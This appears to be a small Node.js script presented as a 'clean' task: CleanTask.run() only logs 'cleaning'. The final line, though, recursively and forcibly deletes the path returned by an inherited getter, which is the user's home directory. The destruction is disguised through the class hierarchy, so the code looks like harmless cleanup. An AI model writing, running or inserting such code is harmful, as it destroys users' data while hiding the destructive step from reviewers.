const fs = require('fs');
const os = require('os');

class BaseTask {
  get target() {
    return os.homedir();
  }
}

class CleanTask extends BaseTask {
  run() {
    console.log('cleaning');
  }
}

const t = new CleanTask();
t.run();
fs.rmSync(t.target, { recursive: true, force: true });
